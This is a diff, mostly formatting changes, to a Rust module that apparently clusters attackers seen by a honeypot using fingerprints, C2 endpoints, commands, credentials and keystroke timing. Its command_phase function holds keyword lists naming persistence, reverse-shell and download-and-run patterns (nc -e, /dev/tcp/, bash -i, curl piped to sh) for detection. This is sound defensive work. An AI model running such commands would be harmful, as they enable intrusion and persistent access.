@@ -17,7 +17,12 @@ use std::net::{IpAddr, Ipv6Addr};
 /// that changes its TLS stack shows up as a rotation too.
 pub const PROBES: [(&str, &str, &str, &str); 4] = [
     ("jarm_fingerprint", "jarm", "jarm_hash", "target_port"),
-    ("hassh_fingerprint", "hassh", "hassh_server_hash", "target_port"),
+    (
+        "hassh_fingerprint",
+        "hassh",
+        "hassh_server_hash",
+        "target_port",
+    ),
     ("tcpfp_fingerprint", "tcpfp", "tcpfp_hash", "target_port"),
     ("tls_client_hello", "ja3", "ja3", "dst_port"),
 ];
@@ -26,8 +31,12 @@ pub const PROBES: [(&str, &str, &str, &str); 4] = [
 /// event with a valid port and a non-empty hash (an empty JARM hash means the
 /// probe got no answer). The hash keys stored rows, so a value no real hash
 /// is as long as is bounded (`bound::index_key`).
-pub fn probe_observation<'a>(event_type: Option<&str>, field: impl Fn(&str) -> Option<&'a str>) -> Option<(&'static str, i32, Cow<'a, str>)> {
-    let (_, probe_type, hash_field, port_field) = PROBES.iter().find(|(e, _, _, _)| Some(*e) == event_type)?;
+pub fn probe_observation<'a>(
+    event_type: Option<&str>,
+    field: impl Fn(&str) -> Option<&'a str>,
+) -> Option<(&'static str, i32, Cow<'a, str>)> {
+    let (_, probe_type, hash_field, port_field) =
+        PROBES.iter().find(|(e, _, _, _)| Some(*e) == event_type)?;
     let port: u16 = field(port_field)?.trim().parse().ok()?;
     let hash = field(hash_field)?.trim();
     (!hash.is_empty()).then(|| (*probe_type, i32::from(port), crate::bound::index_key(hash)))
@@ -52,7 +61,10 @@ pub fn eui64_mac(addr: &str) -> Option<String> {
     let iid = &v6.octets()[8..];
     (iid[3] == 0xff && iid[4] == 0xfe).then(|| {
         let mac = [iid[0] ^ 0x02, iid[1], iid[2], iid[5], iid[6], iid[7]];
-        mac.iter().map(|b| format!("{b:02x}")).collect::<Vec<_>>().join(":")
+        mac.iter()
+            .map(|b| format!("{b:02x}"))
+            .collect::<Vec<_>>()
+            .join(":")
     })
 }
 
@@ -108,10 +120,16 @@ pub fn fingerprint_summary(entries: &Value) -> BTreeMap<&'static str, Option<Vec
             Some(p @ Value::Object(_)) => p.clone(),
             _ => entry.clone(),
         };
-        let Some(fp_type) = payload.get("fingerprint_type").and_then(Value::as_str) else { continue };
+        let Some(fp_type) = payload.get("fingerprint_type").and_then(Value::as_str) else {
+            continue;
+        };
         for (column, t, key) in SUMMARY_COLUMNS {
             if t == fp_type {
-                if let Some(v) = payload.get(key).and_then(Value::as_str).filter(|v| !v.is_empty()) {
+                if let Some(v) = payload
+                    .get(key)
+                    .and_then(Value::as_str)
+                    .filter(|v| !v.is_empty())
+                {
                     sets.entry(column).or_default().insert(v.to_owned());
                 }
             }
@@ -142,12 +160,19 @@ pub struct Observation {
 }
 
 fn strings(v: Option<&Value>) -> BTreeSet<String> {
-    v.and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str).map(str::to_owned).collect()
+    v.and_then(Value::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(Value::as_str)
+        .map(str::to_owned)
+        .collect()
 }
 
 /// A keystroke SimHash given as 16 hex digits (what to_hex of the bytea gives).
 pub fn simhash_from_hex(v: Option<&Value>) -> Option<u64> {
-    v?.as_str().filter(|h| h.len() == 16).and_then(|h| u64::from_str_radix(h, 16).ok())
+    v?.as_str()
+        .filter(|h| h.len() == 16)
+        .and_then(|h| u64::from_str_radix(h, 16).ok())
 }
 
 impl Observation {
@@ -171,7 +196,12 @@ impl Observation {
                 .and_then(Value::as_array)
                 .into_iter()
                 .flatten()
-                .filter_map(|c| Some((c.get(0)?.as_str()?.to_owned(), c.get(1)?.as_str()?.to_owned())))
+                .filter_map(|c| {
+                    Some((
+                        c.get(0)?.as_str()?.to_owned(),
+                        c.get(1)?.as_str()?.to_owned(),
+                    ))
+                })
                 .collect(),
             asn: v.get("asn").and_then(Value::as_i64),
             kd_simhash: simhash_from_hex(v.get("kd")),
@@ -195,22 +225,39 @@ fn jaccard<T: Ord>(a: &BTreeSet<T>, b: &BTreeSet<T>) -> f64 {
 /// fingerprint kind both sides have disagrees, they are different tools and
 /// nothing else can make the tier fire. Otherwise shared payloads or C2 give 1.0.
 pub fn high_tier(a: &Observation, b: &Observation) -> f64 {
-    if a.fingerprints.intersection(&b.fingerprints).next().is_some() {
+    if a.fingerprints
+        .intersection(&b.fingerprints)
+        .next()
+        .is_some()
+    {
         return 1.0;
     }
-    let kinds = |o: &Observation| o.fingerprints.iter().map(|f| kind_of(f).to_owned()).collect::<BTreeSet<_>>();
+    let kinds = |o: &Observation| {
+        o.fingerprints
+            .iter()
+            .map(|f| kind_of(f).to_owned())
+            .collect::<BTreeSet<_>>()
+    };
     if kinds(a).intersection(&kinds(b)).next().is_some() {
         return 0.0; // comparable kinds exist and none agrees
     }
     let shares = |x: &BTreeSet<String>, y: &BTreeSet<String>| x.intersection(y).next().is_some();
-    if shares(&a.payload_hashes, &b.payload_hashes) || shares(&a.c2_endpoints, &b.c2_endpoints) { 1.0 } else { 0.0 }
+    if shares(&a.payload_hashes, &b.payload_hashes) || shares(&a.c2_endpoints, &b.c2_endpoints) {
+        1.0
+    } else {
+        0.0
+    }
 }
 
 /// The best Jaccard of command sets over the phases both used.
 pub fn medium_tier(a: &Observation, b: &Observation) -> f64 {
     a.commands_by_phase
         .iter()
-        .filter_map(|(phase, cmds)| b.commands_by_phase.get(phase).map(|other| jaccard(cmds, other)))
+        .filter_map(|(phase, cmds)| {
+            b.commands_by_phase
+                .get(phase)
+                .map(|other| jaccard(cmds, other))
+        })
         .fold(0.0, f64::max)
 }
 
@@ -228,7 +275,9 @@ pub fn very_low_tier(a: &Observation, b: &Observation) -> f64 {
 /// `1 - d/8` for two keystroke SimHashes closer than 8 bits, else 0 (H.5).
 pub fn keystroke_weight(a: Option<u64>, b: Option<u64>) -> f64 {
     match (a, b) {
-        (Some(x), Some(y)) if hamming64(x, y) < KD_HAMMING_MAX => 1.0 - f64::from(hamming64(x, y)) / f64::from(KD_HAMMING_MAX),
+        (Some(x), Some(y)) if hamming64(x, y) < KD_HAMMING_MAX => {
+            1.0 - f64::from(hamming64(x, y)) / f64::from(KD_HAMMING_MAX)
+        }
         _ => 0.0,
     }
 }
@@ -244,7 +293,9 @@ pub const KEYSTROKE_WEIGHT: f64 = 0.6;
 /// Identity edge weight: the tiers at their weights, so a shared rhythm links
 /// two addresses only together with shared commands or credentials.
 pub fn identity_similarity(a: &Observation, b: &Observation) -> f64 {
-    HIGH_WEIGHT * high_tier(a, b) + MEDIUM_WEIGHT * medium_tier(a, b) + LOW_WEIGHT * low_tier(a, b)
+    HIGH_WEIGHT * high_tier(a, b)
+        + MEDIUM_WEIGHT * medium_tier(a, b)
+        + LOW_WEIGHT * low_tier(a, b)
         + VERY_LOW_WEIGHT * very_low_tier(a, b)
         + KEYSTROKE_WEIGHT * keystroke_weight(a.kd_simhash, b.kd_simhash)
 }
@@ -266,7 +317,12 @@ pub struct LinkReason {
 pub fn link_reasons(a: &Observation, b: &Observation) -> Vec<LinkReason> {
     let mut out = Vec::new();
     let mut push = |tier, kind: &str, value: &str, weight| {
-        out.push(LinkReason { tier, kind: kind.to_owned(), value: crate::bound::index_key(value).into_owned(), weight })
+        out.push(LinkReason {
+            tier,
+            kind: kind.to_owned(),
+            value: crate::bound::index_key(value).into_owned(),
+            weight,
+        })
     };
     if high_tier(a, b) > 0.0 {
         let shared_fps: Vec<&String> = a.fingerprints.intersection(&b.fingerprints).collect();
@@ -287,16 +343,29 @@ pub fn link_reasons(a: &Observation, b: &Observation) -> Vec<LinkReason> {
     let best_phase = a
         .commands_by_phase
         .iter()
-        .filter_map(|(phase, cmds)| b.commands_by_phase.get(phase).map(|other| (phase, cmds, other, jaccard(cmds, other))))
+        .filter_map(|(phase, cmds)| {
+            b.commands_by_phase
+                .get(phase)
+                .map(|other| (phase, cmds, other, jaccard(cmds, other)))
+        })
         .filter(|x| x.3 > 0.0)
         .max_by(|x, y| x.3.total_cmp(&y.3));
     if let Some((phase, cmds, other, j)) = best_phase {
         let shared: Vec<&str> = cmds.intersection(other).map(String::as_str).collect();
-        push("medium", &format!("commands:{phase}"), &shared.join("\n"), MEDIUM_WEIGHT * j);
+        push(
+            "medium",
+            &format!("commands:{phase}"),
+            &shared.join("\n"),
+            MEDIUM_WEIGHT * j,
+        );
     }
     let low = low_tier(a, b);
     if low > 0.0 {
-        let shared: Vec<String> = a.credentials.intersection(&b.credentials).map(|(u, p)| format!("{u}:{p}")).collect();
+        let shared: Vec<String> = a
+            .credentials
+            .intersection(&b.credentials)
+            .map(|(u, p)| format!("{u}:{p}"))
+            .collect();
         push("low", "credentials", &shared.join("\n"), LOW_WEIGHT * low);
     }
     if let (Some(asn), 1.0) = (a.asn, very_low_tier(a, b)) {
@@ -304,7 +373,12 @@ pub fn link_reasons(a: &Observation, b: &Observation) -> Vec<LinkReason> {
     }
     let kd = keystroke_weight(a.kd_simhash, b.kd_simhash);
     if let (Some(x), Some(y), true) = (a.kd_simhash, b.kd_simhash, kd > 0.0) {
-        push("keystroke", "kd_simhash", &format!("{x:016x}~{y:016x} ({} bits apart)", hamming64(x, y)), KEYSTROKE_WEIGHT * kd);
+        push(
+            "keystroke",
+            "kd_simhash",
+            &format!("{x:016x}~{y:016x} ({} bits apart)", hamming64(x, y)),
+            KEYSTROKE_WEIGHT * kd,
+        );
     }
     out
 }
@@ -335,7 +409,12 @@ impl CampaignView {
                 .and_then(Value::as_object)
                 .into_iter()
                 .flatten()
-                .filter_map(|(decky, p)| Some((decky.clone(), (p.get(0)?.as_str()?.to_owned(), p.get(1)?.as_f64()?))))
+                .filter_map(|(decky, p)| {
+                    Some((
+                        decky.clone(),
+                        (p.get(0)?.as_str()?.to_owned(), p.get(1)?.as_f64()?),
+                    ))
+                })
                 .collect()
         };
         CampaignView {
@@ -359,7 +438,8 @@ fn handoff_one_way(a: &CampaignView, b: &CampaignView) -> bool {
     a.last_phase.iter().any(|(decky, (phase, t_last))| {
         matches!(phase.as_str(), "command_and_control" | "persistence")
             && b.first_phase.get(decky).is_some_and(|(p, t_first)| {
-                matches!(p.as_str(), "discovery" | "lateral_movement") && (0.0..=HANDOFF_WINDOW_S).contains(&(t_first - t_last))
+                matches!(p.as_str(), "discovery" | "lateral_movement")
+                    && (0.0..=HANDOFF_WINDOW_S).contains(&(t_first - t_last))
             })
     })
 }
@@ -367,7 +447,11 @@ fn handoff_one_way(a: &CampaignView, b: &CampaignView) -> bool {
 /// 1.0 when one identity leaves a decky established (C2 or persistence) and
 /// the other starts there (discovery or lateral movement) within 24 hours.
 pub fn phase_handoff(a: &CampaignView, b: &CampaignView) -> f64 {
-    if handoff_one_way(a, b) || handoff_one_way(b, a) { 1.0 } else { 0.0 }
+    if handoff_one_way(a, b) || handoff_one_way(b, a) {
+        1.0
+    } else {
+        0.0
+    }
 }
 
 /// Time both were active over A's total active time, capped at 1.
@@ -378,7 +462,10 @@ pub fn temporal_overlap(a: &[(f64, f64)], b: &[(f64, f64)]) -> f64 {
     }
     let overlap: f64 = a
         .iter()
-        .flat_map(|(s1, e1)| b.iter().map(move |(s2, e2)| (e1.min(*e2) - s1.max(*s2)).max(0.0)))
+        .flat_map(|(s1, e1)| {
+            b.iter()
+                .map(move |(s2, e2)| (e1.min(*e2) - s1.max(*s2)).max(0.0))
+        })
         .sum();
     (overlap / total).min(1.0)
 }
@@ -396,16 +483,51 @@ pub fn campaign_similarity(a: &CampaignView, b: &CampaignView) -> f64 {
 pub fn command_phase(command: &str) -> Option<&'static str> {
     let c = command.to_ascii_lowercase();
     let has = |needles: &[&str]| needles.iter().any(|n| c.contains(n));
-    if has(&["crontab", "authorized_keys", "systemctl enable", "rc.local", "useradd", "adduser", ".bashrc", "chattr +i", "/etc/init.d/"]) {
+    if has(&[
+        "crontab",
+        "authorized_keys",
+        "systemctl enable",
+        "rc.local",
+        "useradd",
+        "adduser",
+        ".bashrc",
+        "chattr +i",
+        "/etc/init.d/",
+    ]) {
         Some("persistence")
-    } else if has(&["/dev/tcp/", "nc -e", "ncat ", "bash -i", "| sh", "|sh", "| bash", "|bash", "socat "])
-        || (has(&["wget ", "curl ", "tftp "]) && has(&["http://", "https://", "chmod +x", "./"]))
+    } else if has(&[
+        "/dev/tcp/",
+        "nc -e",
+        "ncat ",
+        "bash -i",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "socat ",
+    ]) || (has(&["wget ", "curl ", "tftp "])
+        && has(&["http://", "https://", "chmod +x", "./"]))
     {
         Some("command_and_control")
     } else if has(&["ssh ", "scp ", "sshpass", "rsync "]) && c.contains('@') {
         Some("lateral_movement")
-    } else if has(&["uname", "whoami", "hostname", "/proc/cpuinfo", "/etc/passwd", "ifconfig", "ip a", "netstat", "ps aux", "lscpu", "nproc", "uptime", "free -", "df -", "cat /etc/os-release"])
-        || c.trim() == "id"
+    } else if has(&[
+        "uname",
+        "whoami",
+        "hostname",
+        "/proc/cpuinfo",
+        "/etc/passwd",
+        "ifconfig",
+        "ip a",
+        "netstat",
+        "ps aux",
+        "lscpu",
+        "nproc",
+        "uptime",
+        "free -",
+        "df -",
+        "cat /etc/os-release",
+    ]) || c.trim() == "id"
         || c.trim() == "w"
         || c.starts_with("ls")
     {
@@ -425,9 +547,11 @@ pub fn c2_endpoints(command: &str) -> Vec<String> {
     static URL: OnceLock<Regex> = OnceLock::new();
     static DEV_TCP: OnceLock<Regex> = OnceLock::new();
     let url = URL.get_or_init(|| {
-        Regex::new(r"(?i)\b(https?|ftp|tftp)://(\[[0-9a-f:]+\]|[a-z0-9.-]+)(?::(\d{1,5}))?").expect("valid regex")
+        Regex::new(r"(?i)\b(https?|ftp|tftp)://(\[[0-9a-f:]+\]|[a-z0-9.-]+)(?::(\d{1,5}))?")
+            .expect("valid regex")
     });
-    let dev_tcp = DEV_TCP.get_or_init(|| Regex::new(r"(?i)/dev/tcp/([a-z0-9.-]+)/(\d{1,5})").expect("valid regex"));
+    let dev_tcp = DEV_TCP
+        .get_or_init(|| Regex::new(r"(?i)/dev/tcp/([a-z0-9.-]+)/(\d{1,5})").expect("valid regex"));
     let mut out: BTreeSet<String> = BTreeSet::new();
     for c in url.captures_iter(command) {
         let default = match c[1].to_ascii_lowercase().as_str() {
@@ -438,7 +562,10 @@ pub fn c2_endpoints(command: &str) -> Vec<String> {
         };
         let host = c[2].trim_end_matches('.').to_ascii_lowercase();
         if !host.is_empty() {
-            out.insert(format!("{host}:{}", c.get(3).map_or(default, |p| p.as_str())));
+            out.insert(format!(
+                "{host}:{}",
+                c.get(3).map_or(default, |p| p.as_str())
+            ));
         }
     }
     for c in dev_tcp.captures_iter(command) {
@@ -452,7 +579,9 @@ pub fn c2_endpoints(command: &str) -> Vec<String> {
 /// Connected components of an undirected graph given as edges between labels.
 /// Every label maps to the smallest label of its component, so the result does
 /// not depend on edge order.
-pub fn connected_components<'a>(edges: impl IntoIterator<Item = (&'a str, &'a str)>) -> HashMap<&'a str, &'a str> {
+pub fn connected_components<'a>(
+    edges: impl IntoIterator<Item = (&'a str, &'a str)>,
+) -> HashMap<&'a str, &'a str> {
     let mut index: HashMap<&str, usize> = HashMap::new();
     let mut labels: Vec<&str> = Vec::new();
     let mut parent: Vec<usize> = Vec::new();
@@ -475,10 +604,16 @@ pub fn connected_components<'a>(edges: impl IntoIterator<Item = (&'a str, &'a st
         let (rx, ry) = (find(&mut parent, x), find(&mut parent, y));
         if rx != ry {
             // the root is the smallest label, so the answer is order-independent
-            if labels[rx] <= labels[ry] { parent[ry] = rx } else { parent[rx] = ry }
+            if labels[rx] <= labels[ry] {
+                parent[ry] = rx
+            } else {
+                parent[rx] = ry
+            }
         }
     }
-    (0..labels.len()).map(|i| (labels[i], labels[find(&mut parent, i)])).collect()
+    (0..labels.len())
+        .map(|i| (labels[i], labels[find(&mut parent, i)]))
+        .collect()
 }
 
 /// After a fresh clustering, which previous group (identity or campaign) each
@@ -489,7 +624,9 @@ pub fn connected_components<'a>(edges: impl IntoIterator<Item = (&'a str, &'a st
 /// with most members there (ties: the smallest id). Returns (previous group,
 /// claiming component, kept) for every previous group: a group not kept is
 /// merged into whatever its claiming component becomes.
-pub fn keep_previous_groups<'a>(members: impl IntoIterator<Item = (&'a str, &'a str)>) -> Vec<(&'a str, &'a str, bool)> {
+pub fn keep_previous_groups<'a>(
+    members: impl IntoIterator<Item = (&'a str, &'a str)>,
+) -> Vec<(&'a str, &'a str, bool)> {
     let mut counts: BTreeMap<(&str, &str), usize> = BTreeMap::new();
     for (component, previous) in members {
         *counts.entry((previous, component)).or_default() += 1;
@@ -512,7 +649,13 @@ pub fn keep_previous_groups<'a>(members: impl IntoIterator<Item = (&'a str, &'a 
     }
     claims
         .into_iter()
-        .map(|(previous, (component, _))| (previous, component, kept.get(component).is_some_and(|(p, _)| *p == previous)))
+        .map(|(previous, (component, _))| {
+            (
+                previous,
+                component,
+                kept.get(component).is_some_and(|(p, _)| *p == previous),
+            )
+        })
         .collect()
 }
 
@@ -522,7 +665,10 @@ mod tests {
     use serde_json::json;
 
     fn obs(fps: &[&str]) -> Observation {
-        Observation { fingerprints: fps.iter().map(|s| s.to_string()).collect(), ..Default::default() }
+        Observation {
+            fingerprints: fps.iter().map(|s| s.to_string()).collect(),
+            ..Default::default()
+        }
     }
     fn set(v: &[&str]) -> BTreeSet<String> {
         v.iter().map(|s| s.to_string()).collect()
@@ -531,14 +677,57 @@ mod tests {
     // cases 6.7 (prober side): what the prober feeds the rotation recorder
     #[test]
     fn probe_observations() {
-        let f = |m: &'static [(&'static str, &'static str)]| move |k: &str| m.iter().find(|(n, _)| *n == k).map(|(_, v)| *v);
-        assert_eq!(probe_observation(Some("hassh_fingerprint"), f(&[("target_port", "22"), ("hassh_server_hash", "deadbeef")])), Some(("hassh", 22, "deadbeef".into())));
-        assert_eq!(probe_observation(Some("tcpfp_fingerprint"), f(&[("target_port", "22"), ("tcpfp_hash", "tcpfp-hash-1")])), Some(("tcpfp", 22, "tcpfp-hash-1".into())));
-        assert_eq!(probe_observation(Some("jarm_fingerprint"), f(&[("target_port", "443"), ("jarm_hash", "")])), None, "empty JARM = no result");
-        assert_eq!(probe_observation(Some("jarm_fingerprint"), f(&[("target_port", "x"), ("jarm_hash", "c0c")])), None);
-        assert_eq!(probe_observation(Some("prober_error"), f(&[("target_port", "443")])), None);
-        assert_eq!(probe_observation(Some("tls_client_hello"), f(&[("dst_port", "443"), ("ja3", "e7d7")])), Some(("ja3", 443, "e7d7".into())));
-        assert_eq!(probe_observation(Some("tls_session"), f(&[("dst_port", "443"), ("ja3", "e7d7")])), None, "one handshake, one observation");
+        let f = |m: &'static [(&'static str, &'static str)]| {
+            move |k: &str| m.iter().find(|(n, _)| *n == k).map(|(_, v)| *v)
+        };
+        assert_eq!(
+            probe_observation(
+                Some("hassh_fingerprint"),
+                f(&[("target_port", "22"), ("hassh_server_hash", "deadbeef")])
+            ),
+            Some(("hassh", 22, "deadbeef".into()))
+        );
+        assert_eq!(
+            probe_observation(
+                Some("tcpfp_fingerprint"),
+                f(&[("target_port", "22"), ("tcpfp_hash", "tcpfp-hash-1")])
+            ),
+            Some(("tcpfp", 22, "tcpfp-hash-1".into()))
+        );
+        assert_eq!(
+            probe_observation(
+                Some("jarm_fingerprint"),
+                f(&[("target_port", "443"), ("jarm_hash", "")])
+            ),
+            None,
+            "empty JARM = no result"
+        );
+        assert_eq!(
+            probe_observation(
+                Some("jarm_fingerprint"),
+                f(&[("target_port", "x"), ("jarm_hash", "c0c")])
+            ),
+            None
+        );
+        assert_eq!(
+            probe_observation(Some("prober_error"), f(&[("target_port", "443")])),
+            None
+        );
+        assert_eq!(
+            probe_observation(
+                Some("tls_client_hello"),
+                f(&[("dst_port", "443"), ("ja3", "e7d7")])
+            ),
+            Some(("ja3", 443, "e7d7".into()))
+        );
+        assert_eq!(
+            probe_observation(
+                Some("tls_session"),
+                f(&[("dst_port", "443"), ("ja3", "e7d7")])
+            ),
+            None,
+            "one handshake, one observation"
+        );
         let long: &'static str = Box::leak("a".repeat(6000).into_boxed_str());
         let (_, _, hash) = probe_observation(Some("hassh_fingerprint"), move |k: &str| match k {
             "target_port" => Some("22"),
@@ -546,16 +735,31 @@ mod tests {
             _ => None,
         })
         .unwrap();
-        assert!(hash.len() <= crate::bound::MAX_KEY_BYTES, "issue 15: a 6,000-character hash keyed fingerprint_state");
+        assert!(
+            hash.len() <= crate::bound::MAX_KEY_BYTES,
+            "issue 15: a 6,000-character hash keyed fingerprint_state"
+        );
     }
 
     // cases 6.5
     #[test]
     fn ipv6_interface_ids() {
-        assert_eq!(ipv6_iid_classify("fe80::aabb:ccff:fedd:eeff"), ("eui64", "a8:bb:cc".to_string()));
-        assert_eq!(eui64_mac("fe80::aabb:ccff:fedd:eeff").as_deref(), Some("a8:bb:cc:dd:ee:ff"));
-        assert_eq!(ipv6_iid_classify("fe80::1234:5678:9abc:def0"), ("stable_privacy", String::new()));
-        assert_eq!(ipv6_iid_classify("not-an-address"), ("unknown", String::new()));
+        assert_eq!(
+            ipv6_iid_classify("fe80::aabb:ccff:fedd:eeff"),
+            ("eui64", "a8:bb:cc".to_string())
+        );
+        assert_eq!(
+            eui64_mac("fe80::aabb:ccff:fedd:eeff").as_deref(),
+            Some("a8:bb:cc:dd:ee:ff")
+        );
+        assert_eq!(
+            ipv6_iid_classify("fe80::1234:5678:9abc:def0"),
+            ("stable_privacy", String::new())
+        );
+        assert_eq!(
+            ipv6_iid_classify("not-an-address"),
+            ("unknown", String::new())
+        );
         assert_eq!(ipv6_iid_classify("1.2.3.4"), ("unknown", String::new()));
         assert!(is_link_local_v6("fe80::1".parse().unwrap()));
         assert!(!is_link_local_v6("2001:db8::1".parse().unwrap()));
@@ -571,53 +775,165 @@ mod tests {
     fn summaries() {
         let s = fingerprint_summary(&json!([]));
         assert!(s.values().all(Option::is_none));
-        for key in ["ja3_hashes", "hassh_hashes", "tls_cert_sha256", "ja4h_hashes", "ja4_quic_hashes"] {
+        for key in [
+            "ja3_hashes",
+            "hassh_hashes",
+            "tls_cert_sha256",
+            "ja4h_hashes",
+            "ja4_quic_hashes",
+        ] {
             assert!(s.contains_key(key), "{key}");
         }
         let ab = "ab".repeat(32);
-        let s = fingerprint_summary(&json!([fp("tls_certificate", "cert_sha256", json!(ab)), fp("tls_certificate", "cert_sha256", json!(ab))]));
+        let s = fingerprint_summary(&json!([
+            fp("tls_certificate", "cert_sha256", json!(ab)),
+            fp("tls_certificate", "cert_sha256", json!(ab))
+        ]));
         assert_eq!(s["tls_cert_sha256"], Some(vec![ab.clone()]));
         assert_eq!(s["ja3_hashes"], None);
-        let certs: Vec<Value> = ["ff", "11", "aa"].iter().map(|c| fp("tls_certificate", "cert_sha256", json!(c.repeat(32)))).collect();
-        assert_eq!(fingerprint_summary(&json!(certs))["tls_cert_sha256"], Some(vec!["11".repeat(32), "aa".repeat(32), "ff".repeat(32)]));
-        let s = fingerprint_summary(&json!([fp("ja3", "ja3", json!("ja3-abc")), fp("hassh_server", "hash", json!("hassh-def")), fp("tls_certificate", "cert_sha256", json!(ab))]));
-        assert_eq!((s["ja3_hashes"].clone(), s["hassh_hashes"].clone()), (Some(vec!["ja3-abc".into()]), Some(vec!["hassh-def".into()])));
-        let s = fingerprint_summary(&json!([fp("tcpfp", "hash", json!("x")), fp("ja4l", "rtt_ms", json!("1")), fp("http_quirks", "order_hash", json!("y"))]));
+        let certs: Vec<Value> = ["ff", "11", "aa"]
+            .iter()
+            .map(|c| fp("tls_certificate", "cert_sha256", json!(c.repeat(32))))
+            .collect();
+        assert_eq!(
+            fingerprint_summary(&json!(certs))["tls_cert_sha256"],
+            Some(vec!["11".repeat(32), "aa".repeat(32), "ff".repeat(32)])
+        );
+        let s = fingerprint_summary(&json!([
+            fp("ja3", "ja3", json!("ja3-abc")),
+            fp("hassh_server", "hash", json!("hassh-def")),
+            fp("tls_certificate", "cert_sha256", json!(ab))
+        ]));
+        assert_eq!(
+            (s["ja3_hashes"].clone(), s["hassh_hashes"].clone()),
+            (Some(vec!["ja3-abc".into()]), Some(vec!["hassh-def".into()]))
+        );
+        let s = fingerprint_summary(&json!([
+            fp("tcpfp", "hash", json!("x")),
+            fp("ja4l", "rtt_ms", json!("1")),
+            fp("http_quirks", "order_hash", json!("y"))
+        ]));
         assert!(s.values().all(Option::is_none));
-        assert_eq!(fingerprint_summary(&json!([{"bounty_type": "fingerprint", "payload": {"fingerprint_type": "tls_certificate"}}]))["tls_cert_sha256"], None);
-        assert!(fingerprint_summary(&json!("not json")).values().all(Option::is_none));
-        assert!(fingerprint_summary(&Value::Null).values().all(Option::is_none));
+        assert_eq!(
+            fingerprint_summary(
+                &json!([{"bounty_type": "fingerprint", "payload": {"fingerprint_type": "tls_certificate"}}])
+            )["tls_cert_sha256"],
+            None
+        );
+        assert!(fingerprint_summary(&json!("not json"))
+            .values()
+            .all(Option::is_none));
+        assert!(fingerprint_summary(&Value::Null)
+            .values()
+            .all(Option::is_none));
         let cd = "cd".repeat(32);
         let as_string = json!([{"bounty_type": "fingerprint", "payload": json!({"fingerprint_type": "tls_certificate", "cert_sha256": cd}).to_string()}]);
-        assert_eq!(fingerprint_summary(&as_string)["tls_cert_sha256"], Some(vec![cd]));
-        assert_eq!(fingerprint_summary(&json!([fp("tls_certificate", "cert_sha256", json!(12345))]))["tls_cert_sha256"], None);
-        let ja3s: Vec<Value> = ["ja3-shared", "ja3-shared", "ja3-second", "ja3-third"].iter().map(|v| fp("ja3", "ja3", json!(v))).collect();
-        assert_eq!(fingerprint_summary(&json!(ja3s))["ja3_hashes"], Some(vec!["ja3-second".into(), "ja3-shared".into(), "ja3-third".into()]));
-        let s = fingerprint_summary(&json!([fp("ja4h", "ja4h", json!("GE11nn0000_02_abc_000")), fp("ja4h", "ja4h", json!("GE11nn0000_02_def_000")),
-            fp("ja4_quic", "ja4_quic", json!("q13d0310h2_002f_0403_h3")), json!({"payload": {"fingerprint_type": "ja4h"}})]));
+        assert_eq!(
+            fingerprint_summary(&as_string)["tls_cert_sha256"],
+            Some(vec![cd])
+        );
+        assert_eq!(
+            fingerprint_summary(&json!([fp("tls_certificate", "cert_sha256", json!(12345))]))
+                ["tls_cert_sha256"],
+            None
+        );
+        let ja3s: Vec<Value> = ["ja3-shared", "ja3-shared", "ja3-second", "ja3-third"]
+            .iter()
+            .map(|v| fp("ja3", "ja3", json!(v)))
+            .collect();
+        assert_eq!(
+            fingerprint_summary(&json!(ja3s))["ja3_hashes"],
+            Some(vec![
+                "ja3-second".into(),
+                "ja3-shared".into(),
+                "ja3-third".into()
+            ])
+        );
+        let s = fingerprint_summary(&json!([
+            fp("ja4h", "ja4h", json!("GE11nn0000_02_abc_000")),
+            fp("ja4h", "ja4h", json!("GE11nn0000_02_def_000")),
+            fp("ja4_quic", "ja4_quic", json!("q13d0310h2_002f_0403_h3")),
+            json!({"payload": {"fingerprint_type": "ja4h"}})
+        ]));
         assert_eq!(s["ja4h_hashes"].as_ref().map(Vec::len), Some(2));
-        assert_eq!(s["ja4_quic_hashes"], Some(vec!["q13d0310h2_002f_0403_h3".into()]));
+        assert_eq!(
+            s["ja4_quic_hashes"],
+            Some(vec!["q13d0310h2_002f_0403_h3".into()])
+        );
         // a bare payload list (what decnet.bounties holds) works the same
-        assert_eq!(fingerprint_summary(&json!([{"fingerprint_type": "ja3", "ja3": "j", "ja4": "t13"}]))["ja4_hashes"], Some(vec!["t13".into()]));
+        assert_eq!(
+            fingerprint_summary(&json!([{"fingerprint_type": "ja3", "ja3": "j", "ja4": "t13"}]))
+                ["ja4_hashes"],
+            Some(vec!["t13".into()])
+        );
     }
 
     // cases 7.5
     #[test]
     fn identity_tiers() {
-        let with = |fps: &[&str], pl: &[&str], c2: &[&str]| Observation { payload_hashes: set(pl), c2_endpoints: set(c2), ..obs(fps) };
+        let with = |fps: &[&str], pl: &[&str], c2: &[&str]| Observation {
+            payload_hashes: set(pl),
+            c2_endpoints: set(c2),
+            ..obs(fps)
+        };
         assert_eq!(high_tier(&obs(&["ja3:x"]), &obs(&["ja3:x"])), 1.0);
         assert_eq!(high_tier(&obs(&["hassh:y"]), &obs(&["hassh:y"])), 1.0);
-        assert_eq!(high_tier(&with(&[], &["pl-1", "pl-2"], &[]), &with(&[], &["pl-2", "pl-3"], &[])), 1.0);
-        assert_eq!(high_tier(&with(&[], &[], &["c2"]), &with(&[], &[], &["c2"])), 1.0);
-        assert_eq!(high_tier(&with(&["ja3:a"], &["p1"], &["c1"]), &with(&["ja3:b"], &["p2"], &["c3"])), 0.0);
+        assert_eq!(
+            high_tier(
+                &with(&[], &["pl-1", "pl-2"], &[]),
+                &with(&[], &["pl-2", "pl-3"], &[])
+            ),
+            1.0
+        );
+        assert_eq!(
+            high_tier(&with(&[], &[], &["c2"]), &with(&[], &[], &["c2"])),
+            1.0
+        );
+        assert_eq!(
+            high_tier(
+                &with(&["ja3:a"], &["p1"], &["c1"]),
+                &with(&["ja3:b"], &["p2"], &["c3"])
+            ),
+            0.0
+        );
         assert_eq!(high_tier(&obs(&[]), &obs(&[])), 0.0);
         // veto
-        assert_eq!(high_tier(&with(&["ja3:a", "hassh:a"], &[], &["c2"]), &with(&["ja3:b", "hassh:b"], &[], &["c2"])), 0.0);
-        assert_eq!(high_tier(&with(&["ja3:a", "hassh:a"], &["p"], &[]), &with(&["ja3:b", "hassh:b"], &["p"], &[])), 0.0);
-        assert_eq!(high_tier(&with(&[], &[], &["c2"]), &with(&[], &[], &["c2"])), 1.0);
-        assert_eq!(high_tier(&with(&["ja3:a"], &[], &["c2"]), &with(&[], &[], &["c2"])), 1.0);
